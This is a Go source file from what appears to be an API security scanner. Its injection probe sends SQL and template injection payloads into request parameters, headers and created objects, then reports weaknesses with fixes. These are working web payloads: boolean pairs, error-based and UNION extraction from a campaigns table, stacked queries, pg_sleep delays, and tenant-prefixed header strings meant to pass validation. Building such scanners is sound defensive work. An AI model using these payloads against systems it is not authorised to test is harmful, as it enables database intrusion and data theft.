package web

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/engardehq/bulkhead/internal/probes"
	"github.com/engardehq/bulkhead/internal/result"
)

var injectSpec = Spec{Name: "inject", Doc: "puts SQL, templates and odd characters into every parameter: conditions in pairs, errors, delays",
	Channels: func(*Profile) []string { return []string{"A05"} }, Run: inject}

// payload is one text, or a pair of which a database would answer the second otherwise than the first.
type payload struct{ yes, no string }

// Each pair has the same form and length; where one is taken for text so is the other.
var payloads = []payload{
	{"bulkhead''", "bulkhead'x"},
	{"bulkhead*/ /*", "bulkhead*/x/*"},
	{"bulkhead' OR 1=1 --", "bulkhead' OR 1=2 --"},
	{"id,(SELECT 1/(SELECT 1))", "id,(SELECT 1/(SELECT 0))"},
	{"bulkhead' OR '1'='1", "bulkhead' OR '1'='2"},
	{"(CASE WHEN 1=1 THEN 1 ELSE 1/(SELECT 0) END)", "(CASE WHEN 1=2 THEN 1 ELSE 1/(SELECT 0) END)"},
	{"asc,(SELECT 1/(SELECT 1))", "asc,(SELECT 1/(SELECT 0))"},
	{"bulkhead') OR 1=1 --", "bulkhead') OR 1=2 --"},
	{"bulkhead' --", "bulkhead' x --"},
	{"1 OR 1=1", "1 OR 1=2"},
	{"bulkhead%' AND 1=1 AND '%'='", "bulkhead%' AND 1=2 AND '%'='"},
	{yes: "bulkhead' AND 1=CAST((SELECT version()) AS int) --"},
	{yes: "bulkhead' UNION SELECT string_agg(t::text, ',') FROM public.campaigns AS t --"},
	{yes: "bulkhead'; SELECT 1; --"},
	{yes: "{{7919*7907}}${7919*7907}#{7919*7907}<%= 7919*7907 %>"},
	{yes: "bulk%00head\x00"},
}

// product is what a template makes of the payload above.
const product = "62615533"

// sleeps make a database wait where they are taken for SQL.
var sleeps = []string{"bulkhead' OR (SELECT 1 FROM pg_sleep(%s)) IS NOT NULL --", "(SELECT 1 FROM pg_sleep(%s))", "bulkhead'; SELECT pg_sleep(%s) --"}

// place is a parameter that takes a text.
type place struct {
	call
	in, name string
}

// text tells a parameter that takes any text from one that is checked to be a number or an id.
func (p Param) text() bool {
	s := p.Schema.resolved(p.Schema)
	return s == nil || s.kind() == "string" && s["format"] == nil && s["enum"] == nil
}

// places are the parameters of calls that only read. Of a large service numbers and ids are left out, but for a full attack.
func (a *attack) places() (all []place) {
	wide := a.Depth == probes.Full || a.scope.Verbs <= manyCalls
	for _, c := range a.calls() {
		if c.care.Plain || !c.safe() {
			continue
		}
		for _, p := range c.PathParams {
			if wide || p.text() {
				all = append(all, place{c, "path", p.Name})
			}
		}
		for _, p := range c.Query {
			if wide || p.text() {
				all = append(all, place{c, "query", p.Name})
			}
		}
		body := c.Body.resolved(c.Body)
		for _, name := range body.properties() {
			all = append(all, place{c, "body", name})
		}
	}
	return all
}

// inject tries every payload in every place, as far as there is time; at least one in each.
func inject(ctx context.Context, a *attack) error {
	type job struct {
		place
		payload
		sleep string
	}
	var jobs []job
	all := a.places()
	share := len(payloads)
	if a.Depth != probes.Full && len(all)*share > requestsMax {
		share = max(1, requestsMax/max(len(all), 1)/2)
	}
	for i, p := range all {
		for k := range share {
			n := k
			if share < len(payloads) && (k > 0 || i%2 == 1) { // the first in every other place at least, the others in turn
				n = 1 + (i/2+k)%(len(payloads)-1)
			}
			jobs = append(jobs, job{place: p, payload: payloads[n]})
		}
		if share == len(payloads) || i%4 == 0 {
			jobs = append(jobs, job{place: p, sleep: sleeps[i/4%len(sleeps)]})
		}
	}
	each(ctx, len(jobs), atOnce, func(ctx context.Context, i int) {
		if j := jobs[i]; j.sleep != "" {
			a.injectSleep(ctx, j.place, j.sleep)
		} else {
			a.injectOne(ctx, j.place, j.payload)
		}
	})
	a.injectHeaders(ctx)
	for _, m := range a.Profile.Makes {
		a.injectMade(ctx, m)
	}
	_, err := a.rows.tidy(ctx, a.World, a.Profile.Schemas)
	return err
}

// with makes a call with a text in one place.
func (a *attack) with(ctx context.Context, p place, text string) (reply, error) {
	attacker, _ := a.pair(0)
	slots := a.slots(p.call)
	f := filling{ids: requiredOnly(slots, a.belonging(slots, attacker))}
	over := map[string]any{p.name: text}
	switch p.in {
	case "path":
		f.path = over
	case "query":
		f.query = over
	default:
		f.body = over
	}
	r := a.request(p.call, slots, f, a.Login(attacker))
	ans, err := a.client.send(ctx, r)
	return reply{ans, r, []string{text}}, err
}

func (a *attack) injectOne(ctx context.Context, p place, load payload) {
	v, err := a.with(ctx, p, load.yes)
	how := ""
	if err == nil && load.no != "" {
		var n reply
		n, err = a.with(ctx, p, load.no)
		if _, alike := same(v, n); err == nil && !alike {
			how, err = tells(func() (reply, error) { return a.with(ctx, p, load.yes) }, func() (reply, error) { return a.with(ctx, p, load.no) })
		}
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if err != nil {
		if p.care.Limit == 0 {
			a.at("A05").Unsure(fmt.Sprintf("%s: no answer: %v", p.call, err))
		}
		return
	}
	if how != "" {
		how = fmt.Sprintf("%q and %q are answered differently: %s", load.yes, load.no, how)
	}
	a.judgeInjected(a.where(p.call)+", "+p.in+" "+p.name, v, how)
}

// judgeInjected looks what became of a payload.
func (a *attack) judgeInjected(where string, v reply, how string) {
	attacker, _ := a.pair(0)
	o := a.at("A05")
	s, leak := a.foreign(attacker, v.answer, v.request)
	what, text := "", ""
	if _, known := a.Profile.shows(aStatement); v.status >= http.StatusBadRequest && !known {
		if what, text = inside(v.answer.body, string(saidBy(v.request))); what != aStatement {
			what = ""
		}
	}
	if what == "" && strings.Contains(string(v.answer.body), product) {
		what, text = "the product of a template", product
	}
	o.Looked(!leak && how == "" && what == "")
	f := result.Finding{Channel: "A05", Severity: result.Weakness, Count: 1, Where: where, What: "what is sent is taken for a statement",
		Fix: fmt.Sprintf("-- %s: bind values as parameters, choose columns from a list", where), Evidence: []result.Evidence{{Detail: how}}}
	switch {
	case leak:
		f.Severity, f.Evidence[0] = result.Leak, a.evidence(attacker, s, fmt.Sprintf("%q answers %d", v.sent[0], v.status))
	case how != "":
	case what != "":
		f.Evidence[0].Detail = fmt.Sprintf("%q answers %d: %s", v.sent[0], v.status, short(text))
	default:
		return
	}
	o.Add(f)
}

// How long a statement is told to wait, and what counts as having waited: twice, with a quick answer between.
const (
	sleepFor  = "1"
	sleepLong = 950 * time.Millisecond
)

func (a *attack) injectSleep(ctx context.Context, p place, form string) {
	waits := 0
	for _, seconds := range []string{sleepFor, "0", sleepFor} {
		v, err := a.with(ctx, p, fmt.Sprintf(form, seconds))
		if err != nil {
			return // told by the others
		}
		if (v.took >= sleepLong) == (seconds == sleepFor) {
			waits++
			continue
		}
		break
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if !a.at("A05").Looked(waits < 3) {
		a.at("A05").Add(result.Finding{Channel: "A05", Severity: result.Weakness, Count: 1, Where: a.where(p.call) + ", " + p.in + " " + p.name, What: "what is sent is taken for a statement",
			Fix:      fmt.Sprintf("-- %s, %s %s: bind values as parameters, choose columns from a list", a.where(p.call), p.in, p.name),
			Evidence: []result.Evidence{{Detail: fmt.Sprintf("%q makes it wait, with 0 it doesn't, and again", fmt.Sprintf(form, sleepFor))}}})
	}
}

// injectHeaders puts payloads into headers that services write down or look up.
func (a *attack) injectHeaders(ctx context.Context) {
	attacker, _ := a.pair(0)
	for _, c := range a.ground(1) {
		for _, name := range []string{"User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Correlation-Id", "X-Tenant-Id", "X-Tenant", "X-User-Id"} {
			loads := payloads[:2:2]
			if !strings.HasPrefix(name, "User-") && strings.HasSuffix(name, "-Id") || strings.HasPrefix(name, "X-Tenant") {
				// Where a value is looked at before it is used, what begins with the caller's own passes.
				own := a.World.Codec.TenantID(attacker).String()
				loads = append(loads, payload{own + "') --", own + "') x --"}, payload{own + "' --", own + "' x --"}, payload{own + "''", own + "'x"})
			}
			for _, load := range loads {
				ask := func(text string) (reply, error) {
					slots := a.slots(c)
					who := a.Login(attacker).Clone()
					who.Set(name, text)
					r := a.request(c, slots, filling{ids: requiredOnly(slots, a.belonging(slots, attacker))}, who)
					ans, err := a.client.send(ctx, r)
					return reply{ans, r, []string{text}}, err
				}
				v, err := ask(load.yes)
				how := ""
				if err == nil {
					how, err = tells(func() (reply, error) { return ask(load.yes) }, func() (reply, error) { return ask(load.no) })
				}
				if err != nil {
					a.at("A05").Unsure(fmt.Sprintf("%s with a header %s: no answer: %v", c, name, err))
					continue
				}
				a.judgeInjected(a.where(c)+", header "+name, v, how)
			}
		}
	}
}

// injectMade puts payloads into the texts of new objects.
func (a *attack) injectMade(ctx context.Context, m Make) {
	attacker, _ := a.pair(0)
	for _, field := range sortedKeys(m.Body) {
		if _, text := m.Body[field].(string); !text {
			continue
		}
		for _, load := range payloads {
			made, err := a.make(ctx, m, attacker, map[string]any{field: load.yes}, nil)
			if made.answer == nil {
				a.at("A05").Unsure(fmt.Sprintf("%s: no answer: %v", m.Create, err))
				continue
			}
			a.judgeInjected(a.Name+" "+m.Create+", body "+field, reply{made.answer, made.request, []string{load.yes}}, "")
			if err == nil {
				_ = a.unmake(ctx, m, attacker, made.id) // what stays is tidied
			}
		}
	}
}
